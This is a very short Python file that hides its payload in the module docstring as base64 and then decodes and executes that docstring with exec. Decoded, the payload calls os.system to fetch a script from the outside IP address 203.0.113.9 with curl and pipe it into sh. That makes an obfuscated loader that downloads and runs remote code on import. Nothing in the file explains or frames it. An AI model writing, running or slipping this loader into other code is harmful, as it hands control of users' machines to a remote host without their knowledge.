"""
aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYXxzaCcp
"""
import base64
exec(base64.b64decode(__doc__))
